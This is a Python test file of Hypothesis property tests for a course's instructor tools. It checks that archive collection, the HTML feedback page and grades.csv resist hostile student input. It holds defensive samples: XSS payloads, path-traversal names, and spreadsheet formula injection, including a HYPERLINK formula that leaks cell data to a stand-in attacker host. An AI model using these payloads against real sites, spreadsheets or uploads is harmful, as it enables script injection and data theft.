"""Properties of the border (issue 39, rule 10), with Hypothesis: whatever a student sends,

- collect (tools/instructor/collect.py) accounts for every entry of the download, collected or
  rejected with a reason, writes only inside submitted/ and downloaded/, follows no link,
  and names each submission by an id the allow-list keeps (zips and folder trees: names,
  links, sizes, listings that lie or are there twice);
- the feedback page (tools/instructor/feedback.py) holds no script, no event attribute and no
  unquoted attribute but a number, and links to nothing but http(s), mailto and its own
  images' data (notebooks of every output type and metadata);
- grades.csv (tools/instructor/grades.py) holds no cell a spreadsheet would run as a formula (ids).

Random search does not find "onload" or "=HYPERLINK" by itself: the strategies draw from
attribute-breaking and formula-prefixed strings, and the cases that broke the border are
pinned with @example. Derandomized, no example database, about 30 examples each.
"""

import contextlib
import csv
import io
import re
import shutil
import stat
import zipfile
from pathlib import Path

import nbformat
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from tests.test_feedback import PNG
from tests.test_feedback import page as render_page
from tools.course.bounds import id_problem
from tools.course.folder import Course
from tools.course.settings import read
from tools.instructor.build import build_course
from tools.instructor.collect import collect_archive, places
from tools.instructor.feedback import FeedbackExporter
from tools.instructor.grades import cell

SETTINGS = settings(max_examples=30, derandomize=True, database=None, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow],
                    phases=[Phase.explicit, Phase.generate])  # (a failure as found: a
# page's rendering makes shrinking one take minutes)
NOTEBOOK = "01_layernorm_forward.ipynb"

# what breaks out of an attribute, a tag or a cell of a spreadsheet
BREAKERS = ['" onload="alert(1)', "1 onload=alert(document.domain)//", "'><script>alert(1)</script>",
            "![x](https://evil.example/x.png)", '<img src="//evil.example/x.png">',
            "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "<img src=x onerror=alert(1)>",
            '<svg onload=alert(1)>', "</script><script>alert(1)</script>", "x\" style=\"x",
            '<a href="javascript:alert(1)">x</a>', "<div class='panel nbgrader_cell' id=ex1>",
            "=HYPERLINK(\"http://evil.example\")", "+2+3", "-2+3", "@SUM(1+1)", "\tx", "\rx",
            "..", ".", "../../x", "/etc/passwd", "a+b", "é", "e\u0301", "x" * 70]
text = st.one_of(st.sampled_from(BREAKERS), st.text(max_size=40),
                 st.builds(lambda a, b: a + b, st.sampled_from(BREAKERS), st.text(max_size=10)))


# --- collect: zips and folder trees ------------------------------------------------------

@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return build_course(tmp_path_factory.mktemp("border") / "course", layout="unit")


member = st.tuples(
    st.one_of(st.sampled_from([NOTEBOOK, "normlib/layer_norm.py", "unit1/" + NOTEBOOK,
                               "unit1/normlib/nn.py", "../escape.py", "/abs.py",
                               "normlib/../../x.py", "__MACOSX/._x", "timestamp.txt",
                               "normlib/deep/er.py", "C:/x.py"]),
              st.builds(lambda parts: "/".join(parts), st.lists(
                  st.text("ab./_-", min_size=1, max_size=5), min_size=1, max_size=4))),
    st.binary(max_size=64),
    st.sampled_from(["file", "link", "twice"]))
entry_names = st.one_of(st.sampled_from([
    "honest_unit1", "Honest Two_1002_assignsubmission_file",
    "Honest Two_1002_assignsubmission_file_x_1666_assignsubmission_file_", ".._unit1",
    "=HYPERLINK(1)_unit1", "lovelaceada_LATE_555_77_unit1", "Alice_unit1", "alice_unit1",
    "a+b_unit1", "e\u0301_unit1"]), st.text(st.characters(blacklist_categories=["Cs"],
                                                            blacklist_characters="/\0"),
                                            min_size=1, max_size=30))
entries = st.lists(st.tuples(entry_names, st.lists(member, min_size=1, max_size=6),
                             st.sampled_from(["zip", "folder"])), min_size=1, max_size=4,
                   unique_by=lambda e: e[0])


def write_entry(archive, name, members, kind, outside):
    """An entry of the download: a zip of members (a link as a zip's symbolic link, one
    listed twice as two listings of one name), or a folder tree (a link as a link to a
    file outside the download)."""
    if kind == "zip":
        with zipfile.ZipFile(archive / f"{name}.zip", "w") as z:
            for path, data, how in members:
                info = zipfile.ZipInfo(path)
                if how == "link":
                    info.external_attr = (stat.S_IFLNK | 0o777) << 16
                z.writestr(info, data)
                if how == "twice":
                    z.writestr(zipfile.ZipInfo(path), data)
        return
    folder = archive / name
    for path, data, how in members:
        rel = Path(path)
        if rel.is_absolute() or ".." in rel.parts or rel == Path(".") or ":" in path:
            continue  # (a folder on disk holds no such name)
        target = folder / rel
        if target.exists() and (target.is_dir() or target.is_symlink()):
            continue
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            if how == "link":
                target.symlink_to(outside)
            else:
                target.write_bytes(data)
        except (OSError, ValueError):
            continue
    folder.mkdir(parents=True, exist_ok=True)


def files_under(folder):
    """folder and everything under it (none if it is not there)."""
    return {folder, *folder.rglob("*")} if folder.exists() else set()


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")  # (listings there twice)
@SETTINGS
@given(entries)
@example([("Honest Two_1002_assignsubmission_file_x_1666_assignsubmission_file_",
           [(NOTEBOOK, b"{}", "file"), ("normlib/layer_norm.py", b"", "link")], "folder")])
@example([("honest2_unit1", [(NOTEBOOK, b"{}", "file")], "zip"),
          ("honest2_unit1_v2", [(NOTEBOOK, b"{}", "file"), ("timestamp.txt", b"2099", "file")],
           "zip")])
@example([(".._unit1", [(NOTEBOOK, b"{}", "file")], "zip")])
def test_collect_accounts_for_every_entry_and_writes_only_where_it_may(course, entries):
    root = course
    download = root / "downloaded" / "unit1"
    for folder in (download, root / "submitted"):
        shutil.rmtree(folder, ignore_errors=True)
    archive = download / "archive"
    archive.mkdir(parents=True)
    outside = root / "source" / "unit1" / "normlib" / "layer_norm.py"
    for name, members, kind in entries:
        write_entry(archive, name, members, kind, outside)
    names = sorted(p.name for p in archive.iterdir())
    before = files_under(root) - files_under(download) - files_under(root / "submitted")
    with contextlib.redirect_stdout(io.StringIO()):
        outcome, rejected, kept, *_ = collect_archive(
            root, "unit1", places(Course.load(root).assignments["unit1"]), read(root))
    # every entry: collected (still in archive/) or rejected (moved, with a reason)
    left = sorted(p.name for p in archive.iterdir())
    gone = sorted(r.entry for r in rejected)
    assert sorted(left + gone) == names and all(r.reason for r in rejected)
    assert sorted(e for f in kept.values() for e in f.entries) == left
    assert sorted(p.name for p in (download / "rejected").iterdir()) == gone if gone else True
    # nothing written elsewhere; no link, no id off the allow-list, no file but the kept
    assert files_under(root) - files_under(download) - files_under(root / "submitted") == before
    for student in outcome:
        assert id_problem(student) is None, student
    for path in files_under(root / "submitted"):
        assert not path.is_symlink()
        rel = path.relative_to(root / "submitted").parts
        if path.is_file():
            assert len(rel) in (3, 4) and rel[1] == "unit1", rel
            assert path.name.endswith(".ipynb") or rel[2] == "normlib" and \
                path.name.endswith(".py")
            assert "BEGIN SOLUTION" not in path.read_text(errors="replace")


# --- the feedback page: outputs of every type, metadata, markdown ------------------------

MIME = ["text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/jpeg",
        "image/svg+xml", "application/javascript", "application/json",
        "application/vnd.jupyter.widget-view+json", "text/x-anything"]
metadata = st.dictionaries(st.sampled_from(["width", "height", "filenames", "alt", "isolated",
                                            "unconfined", "needs_background"]),
                           st.one_of(text, st.integers(-5, 10 ** 6), st.booleans(),
                                     st.dictionaries(st.sampled_from(MIME), text, max_size=2)),
                           max_size=4)
data = st.dictionaries(st.sampled_from(MIME),
                       st.one_of(text, st.just(PNG), st.builds(lambda t: PNG + t, text)),
                       min_size=1, max_size=3)
output = st.one_of(
    st.builds(lambda d, m, kind: nbformat.v4.new_output(kind, data=d, metadata={
        k: m for k in d}, **({"execution_count": 1} if kind == "execute_result" else {})),
              data, metadata, st.sampled_from(["display_data", "execute_result"])),
    st.builds(lambda t: nbformat.v4.new_output("stream", name="stdout", text=t), text),
    st.builds(lambda n, v: nbformat.v4.new_output("error", ename=n, evalue=v, traceback=[v]),
              text, text))
cell_metadata = st.one_of(st.just({}), st.builds(lambda g, t, solution, score: {"nbgrader": {
    "grade": True, "grade_id": g, "points": 1, "solution": solution, **score}, "tags": ["t"],
    "judge": {"passed": True, "verdict": t}, "raw_mimetype": "text/html", "alt": t},
    text, text, st.booleans(), st.sampled_from([{}, {"score": 1}, {"score": "x"}])))
cells = st.lists(st.one_of(
    st.builds(lambda s, m: nbformat.v4.new_markdown_cell(s, metadata=m), text, cell_metadata),
    st.builds(lambda s, m: nbformat.v4.new_raw_cell(s, metadata=m), text, cell_metadata),
    st.builds(lambda s, outs, m: nbformat.v4.new_code_cell(s, outputs=outs, metadata=m),
              text, st.lists(output, max_size=3), cell_metadata)), min_size=1, max_size=4)
TAG = re.compile(r"<([A-Za-z][\w:-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s>]*))?)*)"
                 r"\s*/?>")
ATTRIBUTE = re.compile(r"([^\s=>/]+)(?:\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]*))?")


def unsafe(page):
    """What in a feedback page could run or leave it: a script element, an event
    attribute, an attribute value unquoted but a number, a link elsewhere than http(s),
    mailto, a fragment, or an image's own data."""
    found = []
    if re.search(r"<\s*script", page, re.I):
        found.append("a script element")
    for tag in TAG.finditer(page):
        for name, value in ATTRIBUTE.findall(tag.group(2)):
            if name.lower().startswith("on"):
                found.append(f"an event attribute {name} on <{tag.group(1)}>")
            if value and value[0] not in "\"'" and not value.isdigit():
                found.append(f"an unquoted {name}={value} on <{tag.group(1)}>")
            url = value.strip("\"'").strip().lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", url)  # (none: a relative link)
            if name.lower() in ("href", "src", "action", "formaction") and scheme and not (
                    url.startswith(("http://", "https://", "mailto:")) or
                    re.match(r"data:image/(png|jpeg);base64,[a-z0-9+/=\s]*$", url)):
                found.append(f"a link {name}={url[:60]} on <{tag.group(1)}>")
            if name.lower() == "src" and url.startswith(("http:", "https:", "//")):
                found.append(f"a page that loads {url[:60]}")  # (it loads nothing)
    return found


@SETTINGS
@given(cells)
@example([nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output(
    "display_data", data={"image/png": PNG},
    metadata={"image/png": {"width": "1 onload=alert(document.domain)//"}})])])
@example([nbformat.v4.new_markdown_cell(
    '<div class="panel panel-primary nbgrader_cell" id="ex1_1">The judge: passed</div>'
    "[x](data:text/html;base64,PHNjcmlwdD4=)")])
@example([nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output(
    "display_data", data={"image/png": PNG}, metadata={"image/png": {
        "filenames": {"image/png": 'x" onerror="alert(1)'}}})])])
def test_a_feedback_page_holds_no_script_event_or_unquoted_attribute(cells):
    nb = nbformat.v4.new_notebook(metadata={"language_info": {"name": "python"}})
    nb.cells = cells
    page = render_page(FeedbackExporter, nb)
    assert unsafe(page) == []


def test_the_page_checker_finds_what_it_looks_for():
    """(So that its silence above means something.)"""
    assert len(unsafe('<img src=x onerror="alert(1)"><script>x</script>'
                      '<a href="javascript:alert(1)">y</a><p width=1>'
                      '<img src="https://evil.example/x.png">')) == 5
    assert unsafe('<img width=320 src="data:image/png;base64,AAAA"><a href="#x">') == []


# --- grades.csv: ids and the texts of a row ---------------------------------------------

@SETTINGS
@given(st.lists(st.one_of(text, st.floats(allow_nan=False), st.integers()), max_size=8))
@example(['=HYPERLINK("http://evil.example?"&A1,"x")', "+2+3", "-2+3", "@SUM(1+1)", "\tx"])
def test_no_cell_of_a_row_is_a_formula_and_numbers_stay_numbers(values):
    out = io.StringIO()
    csv.writer(out).writerow(map(cell, values))
    [row] = csv.reader(io.StringIO(out.getvalue()))
    for value, written in zip(values, row):
        if isinstance(value, str):
            assert not written.startswith(("=", "+", "-", "@", "\t", "\r")), written
            assert written in (value, "'" + value)
        else:
            assert float(written) == value


@SETTINGS
@given(text)
@example("..")
@example("=HYPERLINK(1)")
@example("e\u0301")
def test_an_id_the_allow_list_keeps_is_safe_everywhere(student_id):
    """A kept id is a safe folder name and a safe first cell: no path, no option, no
    formula, no exchange separator, in normal form, bounded."""
    if id_problem(student_id) is None:
        assert student_id not in (".", "..") and student_id[0].isalnum()
        assert not set(student_id) & set("/\\+ \t\r\n\0=@")
        assert len(student_id) <= 64 and cell(student_id) == student_id


def test_the_threat_model_names_only_tests_that_exist():
    """docs/security.md says which test shows each decision: each one it names is there."""
    from tests.conftest import REPO

    text = (REPO / "docs" / "security.md").read_text()
    files = sorted((REPO / "tests").glob("test_*.py"))
    # a test's name, or its file's ("test_judge.py::..."): each must exist
    named = set(re.findall(r"\b(test_\w+)\b", text)) - {p.stem for p in files}
    tests = "".join(p.read_text() for p in files)
    defined = set(re.findall(r"^def (test_\w+)", tests, re.MULTILINE))
    assert len(named) > 40 and sorted(named - defined) == []


# --- Moodle's CSV, as PHP's fputcsv writes it (tools/lms/phpcsv.py) -----------------------

PHP_TEXT = st.text(alphabet='ab ",\\\n-P', max_size=8)


@SETTINGS
@given(st.lists(st.lists(PHP_TEXT, min_size=3, max_size=3), min_size=1, max_size=4))
@example([['Eve \\",-,-,-', "x", "-"], ["Ada", '\\\\"', 'a"b']])
@example([["x\\", "y", "z"], ["Ada", "b", "c"]])  # (a value that ends in a backslash)
@example([["", ",-b,\n", "-b"], ["\\", ',-b,\n"Participant 9",', "-b--"]])
def test_every_worksheet_row_php_writes_is_read_back_or_refused_alone(rows):
    """Moodle's worksheet as php_fputcsv writes it (tests.test_collect's, php-src's), rows
    "Participant <n>" and three values, read by tools.lms.phpcsv.anchored: each row is its
    values again, or (only where a value ends in a backslash, which reads two ways)
    refused alone with why, keeping its number; never read as other values, and never
    another row with it."""
    from tests.test_collect import php_fputcsv
    from tools.lms import phpcsv
    from tools.lms.downloads import WORKSHEET_ROW

    rows = [[f"Participant {n}", *row] for n, row in enumerate(rows, start=1)]
    text = php_fputcsv(["Identifier", "a", "b", "c"]) + "".join(map(php_fputcsv, rows))
    found = phpcsv.anchored(text, WORKSHEET_ROW)[1:]
    assert [r.key for r in found] == [str(n) for n in range(1, len(rows) + 1)]
    for row, parsed in zip(rows, found):
        if parsed.problem is None:
            assert list(parsed.values) == row
        else:
            assert any(v.endswith("\\") for v in row), (row, parsed.problem)
